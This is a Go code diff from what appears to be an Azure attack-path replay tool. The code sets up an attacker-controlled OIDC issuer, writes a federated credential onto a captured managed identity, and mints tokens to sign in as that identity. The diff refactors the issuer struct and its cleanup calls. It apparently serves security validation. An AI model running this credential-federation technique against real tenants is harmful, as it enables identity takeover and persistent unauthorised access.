@@ -32,7 +32,8 @@ const (
 
 // attackerIssuer is the issuer the replay trusts identities to.
 type attackerIssuer struct {
-	clusterID, url string
+	sa  string // the service account's ARM id
+	url string
 }
 
 // issuer stands up the attacker's issuer once per replay, in the
@@ -51,11 +52,7 @@ func (p *replay) issuer(ctx context.Context, sub, location string) (*attackerIss
 		if err != nil || status >= 300 {
 			return nil, fmt.Errorf("the attacker's issuer: PUT %s: %s", path, detail(err, out))
 		}
-		p.cleanup = append(p.cleanup, func(ctx context.Context) {
-			if op, err := p.env.OperatorToken(ctx, armResource); err == nil {
-				p.arm(ctx, http.MethodDelete, path, api, op, nil)
-			}
-		})
+		p.undoAsOperator(http.MethodDelete, path, api, nil)
 		return out, nil
 	}
 	if _, err := put(rg, apiVersions["microsoft.resources/resourcegroups"], map[string]any{"location": location}); err != nil {
@@ -88,7 +85,7 @@ func (p *replay) issuer(ctx context.Context, sub, location string) (*attackerIss
 	if _, err := put(sa, clusterAPI, map[string]any{"properties": map[string]any{"namespace": attackNamespace, "name": attackAccount}}); err != nil {
 		return nil, err
 	}
-	p.attacker = &attackerIssuer{clusterID: clusterID, url: cluster.Properties.OIDCIssuerProfile.IssuerURL}
+	p.attacker = &attackerIssuer{sa: sa, url: cluster.Properties.OIDCIssuerProfile.IssuerURL}
 	return p.attacker, nil
 }
 
@@ -144,11 +141,7 @@ func (p *replay) federate(ctx context.Context, h analyzer.Held, o *Obtained) tok
 	if err != nil || status >= 300 {
 		return fail("write a federated credential on %s with %s's token: %s", h.ID, who, detail(err, body))
 	}
-	p.cleanup = append(p.cleanup, func(ctx context.Context) {
-		if op, err := p.env.OperatorToken(ctx, armResource); err == nil {
-			p.arm(ctx, http.MethodDelete, fic, api, op, nil)
-		}
-	})
+	p.undoAsOperator(http.MethodDelete, fic, api, nil)
 	clientID := ident.Properties.ClientID
 	return func(ctx context.Context, resource string) (string, error) {
 		sat, err := p.attackerToken(ctx, iss)
@@ -165,8 +158,7 @@ func (p *replay) attackerToken(ctx context.Context, iss *attackerIssuer) (string
 	if err != nil {
 		return "", err
 	}
-	path := iss.clusterID + "/serviceAccounts/" + attackNamespace + "." + attackAccount + "/token"
-	status, body, err := p.arm(ctx, http.MethodPost, path, apiVersions["microsoft.containerservice/managedclusters"], op, nil)
+	status, body, err := p.arm(ctx, http.MethodPost, iss.sa+"/token", apiVersions["microsoft.containerservice/managedclusters"], op, nil)
 	if err != nil || status != http.StatusOK {
 		return "", fmt.Errorf("the attacker's service-account token: %s", detail(err, body))
 	}
